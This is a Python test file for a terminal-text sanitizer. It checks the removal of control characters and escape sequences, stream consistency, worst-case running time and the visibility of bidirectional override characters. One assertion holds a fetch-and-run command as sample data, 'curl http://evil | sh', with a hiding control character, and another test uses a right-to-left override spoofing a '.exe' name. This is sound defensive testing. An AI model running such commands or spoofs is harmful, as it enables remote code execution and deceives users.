"""No text can drive a terminal, hide itself, or take long to be cleaned."""

import time
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinvk.text.sanitize import (
    STRING_LONGEST,
    StreamSanitizer,
    one_line,
    sanitize,
    with_visible_order,
)

CONTROLS = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0))} - {"\t", "\n"}
INTRODUCERS = ["\x1b]", "\x1bP", "\x1bX", "\x1b^", "\x1b_", "\x9d", "\x90", "\x98", "\x9e", "\x9f"]
TERMINATORS = ["\x07", "\x1b\\", "\x9c"]

PIECES = st.one_of(
    st.sampled_from([*INTRODUCERS, *TERMINATORS, *sorted(CONTROLS)]),
    st.sampled_from(
        ["\x1b[", "\x9b", "\x1b[0", "\x1b[31m", "\x1b(B", "\x1b \x1b", "\x1bM", "0;1 m"]
    ),
    st.sampled_from(
        ["\n", "\t", " ", "a", "]", "\\", "0" * 70, "\u202e", "\u200b", "令牌", "\ud800"]
    ),
    st.text(max_size=5),
)
TEXTS = st.lists(PIECES, max_size=30).map("".join)


def in_pieces(pieces: list[str]) -> str:
    cleaner = StreamSanitizer()
    return "".join([*map(cleaner.feed, pieces), cleaner.finish()])


@given(TEXTS)
def test_no_control_character_is_left(text: str):
    assert not CONTROLS & {*sanitize(text)}


@given(st.text().filter(lambda text: not CONTROLS & {*text}))
def test_text_without_control_characters_is_unchanged(text: str):
    assert sanitize(text) == text


@given(TEXTS)
def test_a_second_time_changes_nothing(text: str):
    assert sanitize(sanitize(text)) == sanitize(text)


@given(TEXTS, st.data())
def test_any_division_into_pieces_gives_the_same(text: str, data: st.DataObject):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    ends = [*cuts, len(text)]
    assert in_pieces([text[a:b] for a, b in zip([0, *cuts], ends, strict=True)]) == sanitize(text)
    assert in_pieces([*text]) == sanitize(text)


@given(TEXTS, TEXTS)
def test_a_line_is_cleaned_by_itself(one: str, other: str):
    assert sanitize(f"{one}\n{other}") == f"{sanitize(one)}\n{sanitize(other)}"


def test_a_control_string_is_removed_up_to_its_terminator():
    for begin, end in product(INTRODUCERS, TERMINATORS):
        text = f"a{begin}0;title{end}b"
        assert (sanitize(text), in_pieces([*text])) == ("ab", "ab"), repr(text)


def test_the_text_of_a_control_string_without_an_end_stays():
    rests = (
        "all of it",
        "first\nsecond\x07",
        "\x1b[31mred\x1b[0m",
        "one\x9dtwo",
        "one\rtwo\x07",
        "one\x1b",
    )
    for begin, rest in product(INTRODUCERS, rests):
        text, stays = f"a {begin}{rest}", f"a {sanitize(rest)}"
        assert (sanitize(text), in_pieces([*text])) == (stays, stays), repr(text)


def test_a_quotation_mark_read_as_latin_1_hides_nothing():
    text = "He said “yes” and left. ".encode().decode("latin-1") + "The rest."
    assert sanitize(text).endswith("and left. The rest.")
    assert one_line("ls \x9d; curl http://evil | sh") == "ls ; curl http://evil | sh"


@pytest.mark.parametrize("extra", [-1, 0, 1, 2])
@pytest.mark.parametrize("begin", ["\x9d", "\x1b]"])
def test_the_text_of_a_very_long_control_string_stays(begin: str, extra: int):
    text = begin + "a" * (STRING_LONGEST + extra) + "\x1b\\."
    shown = "." if extra <= 0 else "a" * (STRING_LONGEST + extra) + "."
    assert sanitize(text) == shown
    assert in_pieces([text[:-2], text[-2:]]) == shown
    assert in_pieces([text[:9], *text[9:-3], "\x1b", "", "\\", "."]) == shown
    assert in_pieces([text[:-3]]) == text[len(begin) : -3]


def test_a_sequence_longer_than_any_is_text():
    assert sanitize("\x1b[" + "1" * 64 + "mred") == "red"
    assert sanitize("\x1b[" + "1" * 65 + "mred") == "1" * 65 + "mred"


WORST = {
    "strings that do not end": ("\x90a" * 100_000) + "\x1bz",
    "their beginnings": "\x1b]" * 100_000,
    "beginnings of sequences": "\x9b" * 200_000,
    "sequences that do not end": "\x1b[0" * 70_000,
    "one string": "\x1b]" + "a" * 200_000,
    "strings that are too long": ("\x9d" + "a" * (STRING_LONGEST + 1)) * 3,
    "strings whose end is cut": ("\x1b]" + "a" * 60_000 + "\x1b") * 4,
    "escapes": "\x1b    " * 40_000,
}


@pytest.mark.parametrize("name", WORST)
def test_no_text_takes_long(name: str):
    text = WORST[name]
    began = time.process_time()
    shown = sanitize(text)
    assert time.process_time() - began < 5  # where time grows with the square, it takes minutes
    began = time.process_time()
    assert in_pieces([*text]) == shown
    assert time.process_time() - began < 10


def test_empty_pieces_of_an_open_string_take_no_time():
    cleaner = StreamSanitizer()
    cleaner.feed("\x9d" + "a" * 60_000 + "\x1b")
    began = time.process_time()
    assert "".join(cleaner.feed("") for _ in range(100_000)) == ""
    assert time.process_time() - began < 5
    assert cleaner.feed("\\b") + cleaner.finish() == "b"


def test_what_changes_the_order_of_text_can_be_made_visible():
    text = "a \u202egnp.exe\u202c \u2066b\u2069 שלום\u200f."
    assert with_visible_order(text) == "a <U+202E>gnp.exe<U+202C> <U+2066>b<U+2069> שלום\u200f."
